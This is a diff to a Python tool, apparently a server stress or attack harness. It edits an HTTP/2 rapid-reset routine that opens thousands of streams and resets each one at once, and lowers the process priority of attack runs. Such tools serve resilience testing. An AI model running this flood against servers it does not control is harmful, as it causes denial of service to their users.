@@ -248,16 +248,16 @@ def _incomplete(size: int, metadata: Sequence[tuple[str, str]] = ()) -> Callable
 
 
 def _resets(address: str) -> None:
-    """Calls that are reset as soon as they begin."""
+    """Thousands of calls that are reset as soon as they begin."""
 
     def attack(connection: Http2) -> None:
-        while True:
-            for _ in range(100):
-                stream = connection.open(_QUERY)
-                connection.send(_RST, 0, stream, struct.pack(">I", 8))
-                connection.windows.pop(stream, None)
-            connection.send(_PING, 0, 0, bytes(8))
-            connection.read()
+        for _ in range(2500):
+            stream = connection.open(_QUERY)
+            connection.send(_RST, 0, stream, struct.pack(">I", 8))
+            del connection.windows[stream]
+        connection.send(_PING, 0, 0, bytes(8))
+        connection.read()
+        time.sleep(2)
 
     _connected(address, attack)
 
@@ -410,7 +410,7 @@ def main(argv: Sequence[str] | None = None) -> int:
     arguments = parser.parse_args(argv)
     if arguments.attack:
         name, address = arguments.attack
-        os.nice(5)
+        os.nice(19)
         if name in MESSAGES:
             send_messages(address, name)
         CONNECTIONS[name](address)
